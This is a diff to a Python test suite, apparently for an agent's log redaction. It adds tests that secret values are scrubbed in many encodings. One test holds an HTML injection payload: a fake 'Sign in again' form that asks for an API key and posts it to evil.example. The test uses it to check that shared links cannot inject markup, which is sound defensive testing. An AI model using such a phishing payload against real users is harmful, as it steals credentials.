@@ -5,12 +5,14 @@ text, attributes, links, JSON and the raw query. Then every place a value can la
 by an independent decoder (percent, form, HTML and JSON/Python escapes, nested): the run log file and its
 snapshot (bytes and every row), traces, both exports, screenshots (pixels), the webhook, OpenTelemetry
 spans, events and the run's JSON, the workbench page showing the run, and the process log. Also: a shared
-link cannot put HTML into a toast."""
+link cannot put HTML into a toast. First, the scrubber itself against spellings made here independently."""
 
 from __future__ import annotations
 
+import html
 import io
 import json
+import re
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -26,11 +28,77 @@ from tests.secretsite import SecretSite, leaks
 from tests.test_mask import masked_share, spot
 from tests.test_otel import OtlpReceiver
 
-pytestmark = pytest.mark.slow
-
 Q = "Kx~7*!'(y) &+%/?#\"<>\\,ÿé 😀 çà-Q1"  # typed into the GET form
 PW = "Zq~9*!'(x) &+%/?#\"<>\\,ß 😀 ñ-P2"  # typed into the POST form
 VALUES = [Q, PW]
+
+
+# ------------------------------------------------------------------ the scrubber, spelling by spelling
+def _numeric(text: str, fmt: str) -> str:
+    return "".join(fmt.format(ord(c)) for c in text)
+
+
+def _browser_form(text: str) -> str:
+    """application/x-www-form-urlencoded as Chromium writes it: *-._ and letters kept, space +, the rest %XX."""
+    return "".join(c if c.isascii() and (c.isalnum() or c in "*-._") else "+" if c == " " else quote(c, safe="")
+                   for c in text)
+
+
+SPELLINGS: dict[str, Any] = {
+    "as typed": lambda v: v,
+    "form (Chromium)": _browser_form,
+    "percent, all": lambda v: quote(v, safe=""),
+    "percent, lower-case hex": lambda v: re.sub("%[0-9A-F]{2}", lambda m: m.group(0).lower(), quote(v, safe="")),
+    "percent, some characters": lambda v: "".join(quote(c, safe="") if i % 2 else c for i, c in enumerate(v)),
+    "form, + for space": lambda v: quote(v, safe="").replace("%20", "+"),
+    "percent, twice": lambda v: quote(quote(v, safe=""), safe=""),
+    "percent, three times": lambda v: quote(quote(quote(v, safe=""), safe=""), safe=""),
+    "form, twice": lambda v: quote(_browser_form(v), safe=""),
+    "HTML, escaped": lambda v: html.escape(v),
+    "HTML, decimal": lambda v: _numeric(v, "&#{};"),
+    "HTML, decimal, leading zeros, no ;": lambda v: _numeric(v, "&#000{}"),
+    "HTML, hex": lambda v: _numeric(v, "&#x{:x};"),
+    "HTML, HEX": lambda v: _numeric(v, "&#X{:X}"),
+    "HTML, named": lambda v: v.replace("&", "&amp;").replace("<", "&LT;").replace('"', "&quot").replace("é", "&eacute;")
+    .replace("(", "&lpar;").replace("%", "&percnt;").replace(" ", "&#32;"),
+    "JSON": lambda v: json.dumps(v, ensure_ascii=False)[1:-1],
+    "JSON, ASCII": lambda v: json.dumps(v)[1:-1],
+    "JSON, ASCII, upper-case hex": lambda v: re.sub(r"\\u([0-9a-f]{4})", lambda m: "\\u" + m.group(1).upper(),
+                                                     json.dumps(v)[1:-1]),
+    "JSON in HTML": lambda v: html.escape(json.dumps(v)[1:-1]),
+    "Python repr": lambda v: repr(v)[1:-1],
+    "Python ascii": lambda v: ascii(v)[1:-1],
+    "JSON of a URL": lambda v: json.dumps(quote(v, safe=""))[1:-1],
+    "mixed, character by character": lambda v: "".join(
+        (c, quote(c, safe=""), f"&#{ord(c)};", json.dumps(c)[1:-1] if ord(c) < 0x10000 else c)[i % 4]
+        for i, c in enumerate(v)),
+    "spacing collapsed": lambda v: " ".join(v.split()),
+    "clipped": lambda v: v[:12] + "…",
+}
+
+
+@pytest.mark.parametrize("spelling", sorted(SPELLINGS))
+def test_every_spelling_is_scrubbed(spelling: str) -> None:
+    from agent.engine.secrets import Secrets
+    from agent.log.redact import scrub
+
+    secrets = Secrets({"q": Q, "pw": PW})
+    for name, value in (("q", Q), ("pw", PW)):
+        shown = SPELLINGS[spelling](value)
+        assert shown != value or spelling in ("as typed", "spacing collapsed")
+        text = f"before {shown} after"
+        assert secrets.scrub(text) == f"before <secret>{name}</secret> after", (spelling, shown)
+        assert scrub(text, VALUES) == "before [redacted] after", (spelling, shown)
+
+
+def test_scrubbing_keeps_everything_else() -> None:
+    from agent.engine.secrets import Secrets
+
+    secrets = Secrets({"short": "abc123", "long": "abc123-and-more", "pw": PW})
+    assert secrets.scrub("abc123-and-more / abc123 / abc12 / ABC123") == (
+        "<secret>long</secret> / <secret>short</secret> / abc12 / ABC123")  # the longer value whole; case counts
+    assert secrets.scrub("Zq~9 is not the value, nor %5A%71") == "Zq~9 is not the value, nor %5A%71"
+    assert secrets.scrub("a lone \ud800 half, then abc123") == "a lone \ufffd half, then <secret>short</secret>"
 
 
 def model_script(body: dict[str, Any]) -> Any:
@@ -88,6 +156,7 @@ def app(tmp_path_factory: pytest.TempPathFactory, otlp: OtlpReceiver) -> Iterato
         model.close()
 
 
+@pytest.mark.slow
 async def test_a_shared_link_cannot_put_html_into_a_toast(app: App, browser: Any) -> None:
     payload = ('<form action="https://evil.example/steal"><input name="key" placeholder="API key">'
                '<a href="https://evil.example">Sign in again</a></form>')
@@ -125,6 +194,7 @@ def recorded(app: App, site: SecretSite, hooks: Receiver) -> dict[str, Any]:
     return dict(run)
 
 
+@pytest.mark.slow
 async def test_the_workbench_page_showing_the_run_holds_no_value(app: App, recorded: dict[str, Any],
                                                                  browser: Any) -> None:
     found: dict[str, list[str]] = {}
@@ -132,6 +202,7 @@ async def test_the_workbench_page_showing_the_run_holds_no_value(app: App, recor
     assert found == {}
 
 
+@pytest.mark.slow
 def test_sensitive_data_reaches_no_record_in_any_spelling(app: App, site: SecretSite, hooks: Receiver,
                                                           otlp: OtlpReceiver, recorded: dict[str, Any]) -> None:
     run, http = recorded, httpx.Client(base_url=app.base, timeout=180)
